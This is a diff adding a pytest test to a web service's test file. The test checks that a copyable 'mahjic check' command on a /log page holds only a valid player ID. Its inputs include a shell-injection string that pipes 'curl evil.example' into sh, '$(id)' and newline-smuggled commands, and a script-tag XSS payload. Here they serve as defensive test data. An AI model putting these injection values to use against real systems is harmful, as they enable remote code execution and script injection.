@@ -128,3 +128,24 @@ async def test_without_a_folder_there_is_no_public_log(database: Database) -> No
         for path in ("/log/keys", "/log/facts/checkpoint", "/log/verdicts/tile/0/000"):
             answer = await service.client.get(path)
             assert (answer.status_code, answer.json()["code"]) == (404, "no_public_log")
+
+
+@pytest.mark.parametrize(
+    ("asked", "in_command"),
+    [
+        ("MJ-0000001Y", "MJ-0000001Y"),
+        ("", "MJ-7K3Q9XZM"),
+        ("mj-0000001y", "MJ-7K3Q9XZM"),
+        ("x; curl evil.example | sh", "MJ-7K3Q9XZM"),
+        ("MJ-0000001Y$(id)", "MJ-7K3Q9XZM"),
+        ("MJ-0000001Y\nid", "MJ-7K3Q9XZM"),
+        ("<script>alert(1)</script>", "MJ-7K3Q9XZM"),
+    ],
+)
+async def test_the_command_that_people_copy_holds_an_id_and_nothing_else(
+    service: RunningService, asked: str, in_command: str
+) -> None:
+    answer = await service.client.get("/log", params={"player": asked})
+    assert answer.status_code == 200
+    assert f"mahjic check {PUBLIC_URL} --player {in_command}<" in answer.text
+    assert "<script>alert" not in answer.text
